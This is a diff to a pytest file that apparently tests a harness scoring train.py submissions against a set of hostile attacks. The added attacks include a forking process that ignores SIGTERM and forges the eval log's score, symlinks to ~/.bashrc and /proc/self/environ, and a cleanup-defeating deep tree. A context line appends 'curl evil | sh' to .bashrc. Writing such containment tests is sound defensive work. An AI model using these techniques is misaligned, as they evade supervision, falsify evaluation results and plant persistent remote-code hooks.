@@ -38,6 +38,29 @@ torch.save(sub, run / "submission.pt")
 '''
 
 
+# ignores SIGTERM and forks away every 20 ms (a new pid each generation): a list of pids taken once misses it.
+# It tries to replace the driver's eval log (beside its own folder) with a forged score. Bounded: 60 s or a
+# stop file.
+HOPPER = r'''import json, os, signal, sys, time
+from pathlib import Path
+work = Path(sys.argv[1])
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+end = time.time() + 60
+while time.time() < end and not (work / "stop").exists():
+    if os.fork():
+        os._exit(0)
+    (work / "hopper.pid").write_text(str(os.getpid()))
+    for log in work.parent.glob("eval*.log"):
+        try:
+            log.write_text(json.dumps({"ppl": 1.0, "windows": 2, "protocol": 1, "max_windows": 2}) + "\n")
+        except OSError:
+            pass
+    time.sleep(0.02)
+'''
+UNBLOCKED = {"a tree deeper than the recursion limit in TMPDIR", "a leftover that keeps changing its pid",
+             "a child that outlives train.py and swaps the submission"}  # confined to work/: the driver copes
+
+
 def attacks(ctx: dict) -> dict[str, str]:
     """name -> the body of attack() (indented 4). ctx: paths and ports the test watches."""
     return {
@@ -137,6 +160,32 @@ def attacks(ctx: dict) -> dict[str, str]:
         "writes to $HOME": """
     with open(Path.home() / ".bashrc", "a") as f:
         f.write("curl evil | sh\\n")""",
+        # what the driver reads and writes beside train.py's folder: its logs, the submission it scores
+        "links and a folder where the driver writes and reads its logs": """
+    denied = []
+    for plant in (lambda: os.symlink(Path.home() / ".bashrc", RUN.parent / "eval.log"),
+                  lambda: os.symlink(REPO / ".git" / "autoresearch" / "results.tsv", RUN.parent / "eval.log"),
+                  lambda: (RUN.parent / "eval.json").mkdir(),
+                  lambda: (RUN.parent / "train.log").unlink(),
+                  lambda: os.symlink("/proc/self/environ", RUN.parent / "train.log")):
+        try:
+            plant()
+        except OSError as exc:
+            denied.append(exc)
+    if len(denied) == 5:
+        raise denied[0]""",
+        "a tree deeper than the recursion limit in TMPDIR": """
+    fd = os.open(os.environ["TMPDIR"], os.O_RDONLY)
+    for _ in range(1500):  # through fds: no path grows past PATH_MAX
+        os.mkdir("d", dir_fd=fd)
+        child = os.open("d", os.O_RDONLY, dir_fd=fd)
+        os.close(fd)
+        fd = child""",
+        "a leftover that keeps changing its pid": f"""
+    import subprocess, sys
+    (RUN / "hopper.py").write_text({HOPPER!r})
+    subprocess.Popen([sys.executable, str(RUN / "hopper.py"), str(RUN)], stdout=subprocess.DEVNULL,
+                     stderr=subprocess.DEVNULL)""",
         "a child that outlives train.py and swaps the submission": f"""
     import subprocess, sys
     (RUN / "daemon.py").write_text({DAEMON!r}.format(parent=os.getpid(), run=str(RUN)))
@@ -212,6 +261,9 @@ def hostile_world(tmp_path, tiny_assets):
     ctx = {"marker": tmp_path / "hook-ran", "port": tcp.sock.getsockname()[1], "sock": tmp_path / "ssh-agent.sock"}
     yield {"repo": repo, "env": env, "ctx": ctx, "home": home, "tcp": tcp, "agent_sock": agent_sock,
            "assets": assets, "tmp": tmp_path}
+    for work in (repo / "runs" / TAG).glob("*/work"):  # a hopper that escaped ends itself at this file
+        (work / "stop").write_text("")
+    subprocess.run(["rm", "-rf", str(repo / "runs")], check=False)  # a deep tree defeats pytest's own cleanup
     tcp.close()
     agent_sock.close()
     probe = [p for p in map(Path, sys.path) if (p / "ar_hostile_probe.pth").exists()]
@@ -273,7 +325,7 @@ def test_every_attack_is_blocked_and_every_score_is_honest(hostile_world):
             assert row["status"] == "crash" and "after train.py exited" in row["reason"], (name, row.to_dict())
         else:
             assert row["status"] == "discard" and row["val_ppl"] == pytest.approx(honest, rel=1e-9), (name, row.to_dict())
-        if name != "a child that outlives train.py and swaps the submission":  # blocked for the right reason
+        if name not in UNBLOCKED:  # blocked for the right reason
             assert "ATTACK blocked" in log and any(why in log for why in DENIALS), (name, log[-2000:])
     print("\n".join(f"{n}: {o}" for n, o in outcomes.items()))
     # nothing outside the run folders changed, nothing reached the listeners, no secret left the driver
@@ -290,9 +342,11 @@ def test_every_attack_is_blocked_and_every_score_is_honest(hostile_world):
     for path in (repo / "runs").rglob("*"):
         if path.is_file():
             assert SECRET.encode() not in path.read_bytes(), path
-    daemon = repo / "runs" / TAG / str(len(names)) / "work" / "daemon.pid"
-    if daemon.exists():
-        assert not Path(f"/proc/{daemon.read_text()}").exists(), "the daemon outlived the run"
+    for name, leftover in (("a child that outlives train.py and swaps the submission", "daemon.pid"),
+                           ("a leftover that keeps changing its pid", "hopper.pid")):
+        pid = repo / "runs" / TAG / str(names.index(name) + 1) / "work" / leftover
+        assert pid.exists() and not Path(f"/proc/{pid.read_text()}").exists(), f"{leftover}: outlived the run"
+    assert len(list((repo / "runs" / TAG).glob("*/work/tmp"))) == 0  # even the deep tree was removed
 
 
 def one_line(log: str, marker: str) -> str:
